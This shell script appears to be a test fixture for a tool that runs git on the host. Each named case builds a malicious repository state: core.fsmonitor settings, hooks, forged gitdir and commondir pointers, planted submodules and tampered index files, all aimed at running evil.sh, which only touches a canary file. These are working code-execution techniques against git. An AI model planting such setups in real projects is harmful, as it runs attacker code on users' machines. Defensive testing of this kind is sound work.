# Makes git on the host enter a repository in the project that has settings of the attacker. $1
# names the attack.
evil=$PWD/evil.sh
printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
monitor() { printf '[core]\n\tfsmonitor = %s\n' "$evil"; }
# Makes a repository with one commit in the folder $1.
made() { git init -q "$1" && git -C "$1" commit -q --allow-empty -m one; }
evil() { made "$1" && monitor >>"$1/.git/config"; }
# Names the folder $1 in the index as a submodule.
named() { git update-index --add --cacheinfo "160000,$(git -C "$1" rev-parse HEAD),$1"; }
# Copies the git directory $1 of a submodule to `evil`, with other settings.
elsewhere() {
    cp -rL "$1" evil
    rm -f evil/commondir evil/config.worktree
    printf '[core]\n\trepositoryformatversion = 0\n\tworktree = %s/sub\n' "$PWD" >evil/config
    monitor >>evil/config
}
case $1 in
# These attacks change repositories that exist at the start.
pointer) elsewhere .git/modules/sub && echo "gitdir: $PWD/evil" >sub/.git ;;
pointer-replaced) elsewhere .git/modules/sub && echo "gitdir: $PWD/evil" >new && mv -f new sub/.git ;;
folder)
    elsewhere .git/modules/sub
    mv sub sub.aside
    mkdir sub
    echo "gitdir: $PWD/evil" >sub/.git
    ;;
module-commondir)
    elsewhere .git/modules/sub
    echo "$PWD/evil" >.git/modules/sub/commondir
    ;;
module-moved)
    elsewhere .git/modules/sub
    mv .git/modules .git/modules.aside
    mkdir .git/modules
    cp -r evil .git/modules/sub
    ;;
many-worktrees)
    seq 600 | while read -r i; do
        mkdir -p ".git/worktrees/a$i" "a$i"
        echo ref: refs/heads/x >".git/worktrees/a$i/HEAD"
        echo ../.. >".git/worktrees/a$i/commondir"
        echo "$PWD/a$i/.git" >".git/worktrees/a$i/gitdir"
        echo "gitdir: $PWD/.git/worktrees/a$i" >"a$i/.git"
    done
    ;;
many-folders) mkdir -p .git/worktrees && cd .git/worktrees && seq 1200 | xargs mkdir ;;
named-logs) monitor >>.git/modules/logs/config ;;
named-objects) monitor >>.git/modules/a/objects/config ;;
deeper) elsewhere .git/modules/sub/modules/deeper && echo "gitdir: $PWD/evil" >sub/deeper/.git ;;
embedded) monitor >>sub/.git/config ;;
embedded-hook)
    mkdir -p sub/.git/hooks
    cp evil.sh sub/.git/hooks/post-index-change
    cp evil.sh sub/.git/hooks/pre-commit
    ;;
embedded-commondir) elsewhere sub/.git && echo "$PWD/evil" >sub/.git/commondir ;;
embedded-worktree) monitor >>sub/.git/config.worktree ;;
embedded-moved)
    mv sub/.git sub/git.aside
    cp -rL sub/git.aside sub/.git
    rm -f sub/.git/commondir
    monitor >>sub/.git/config
    ;;
embedded-removed) rm -rf sub; evil sub ;;
embedded-hooks-in-the-tree) cp evil.sh sub/tools/pre-commit && cp evil.sh sub/tools/post-index-change ;;
worktree-pointer)
    cp -rL .git evil
    rm -f evil/commondir
    monitor >>evil/config
    echo "gitdir: $PWD/evil" >sub/.git
    ;;
worktree-settings) monitor >>.git/worktrees/sub/config.worktree ;;
program) cp evil.sh tools/program ;;
program-alone) cp evil.sh program.sh ;;
program-replaced) rm -f tools/program; cp evil.sh tools/program ;;
program-moved) mv tools tools.aside; mkdir tools; cp evil.sh tools/program ;;
# These attacks plant new repositories.
planted) evil new && named new ;;
planted-and-closed) evil new && named new && chmod 555 new ;;
planted-among-names)
    evil new && named new
    mkdir new/.git.held
    for i in $(seq 2 1200); do mkdir "new/.git.held-$i"; done
    ;;
planted-deep) mkdir -p a/b && evil a/b/new && named a/b/new ;;
planted-in-a-planted-one) made new && evil new/deeper && (cd new && named deeper) && named new ;;
planted-in-a-submodule) evil sub/deeper && (cd sub && named deeper) ;;
planted-hook)
    # The file's time has changed, so git writes the index and calls the hook.
    made new && echo x >new/x && git -C new add x && git -C new commit -qm two && named new
    touch -d 2001-01-01 new/x
    mkdir -p new/.git/hooks
    cp evil.sh new/.git/hooks/post-index-change
    ;;
planted-include) made new && named new && monitor >settings && git -C new config include.path "$PWD/settings" ;;
planted-worktree-settings)
    made new && named new
    git -C new config extensions.worktreeConfig true
    monitor >new/.git/config.worktree
    ;;
planted-commondir)
    made new && named new
    cp -rL new/.git evil
    monitor >>evil/config
    echo "$PWD/evil" >new/.git/commondir
    ;;
planted-pointer) evil new && named new && mv new/.git evil && echo "gitdir: $PWD/evil" >new/.git ;;
planted-link) evil new && named new && mv new/.git evil && ln -s ../evil new/.git ;;
planted-in-a-split-index) evil new && named new && git update-index --split-index ;;
planted-as-a-replaced-entry)
    # Only the shared index has the name, and as a file.
    echo x >new && git add new && git -c splitIndex.maxPercentChange=100 update-index --split-index
    rm new && evil new
    git -c splitIndex.maxPercentChange=100 update-index --replace --cacheinfo "160000,$(git -C new rev-parse HEAD),new"
    ;;
planted-in-a-huge-index)
    # The index has 300 MB in an extension that git skips, and an all-zero checksum, which git
    # does not check.
    evil new && named new
    python3 - <<'END'
size = 300 << 20
index = open('.git/index', 'rb').read()[:-20] + b'ZZZZ' + size.to_bytes(4, 'big')
with open('.git/index', 'wb') as file:
    file.write(index)
    file.truncate(len(index) + size + 20)
END
    ;;
populated) rm -rf sub; evil sub ;;
in-another-worktree) evil sub/new && (cd sub && named new) ;;
*) exit 1 ;;
esac
echo done
